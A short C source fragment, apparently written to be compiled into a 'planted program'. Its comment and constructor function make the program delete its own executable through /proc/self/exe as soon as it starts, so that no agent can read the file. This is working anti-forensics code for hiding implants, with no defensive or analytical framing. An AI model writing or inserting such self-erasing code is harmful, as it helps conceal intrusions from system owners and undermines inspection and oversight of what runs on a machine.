/* Included before a planted program: it removes its file when it begins, before any agent can have read it. */
#include <unistd.h>

__attribute__((constructor)) static void moriens_taken(void)
{
	char file[4096];
	ssize_t n = readlink("/proc/self/exe", file, sizeof file - 1);

	if (n > 0) {
		file[n] = '\0';
		unlink(file);
	}
}
